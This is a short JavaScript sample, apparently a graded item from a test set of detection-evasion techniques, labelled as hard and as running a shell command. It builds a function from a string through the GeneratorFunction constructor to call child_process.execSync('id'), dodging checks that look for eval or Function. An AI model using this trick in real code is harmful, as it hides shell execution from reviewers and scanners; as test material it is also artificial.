// evasion: code compiled by the GeneratorFunction constructor taken from a generator's prototype
// grade: hard; does: shell
const GF = Object.getPrototypeOf(function* () {}).constructor;
const g = GF('r', "yield r('child_process').execSync('id').toString()");
console.log(g(require).next().value);
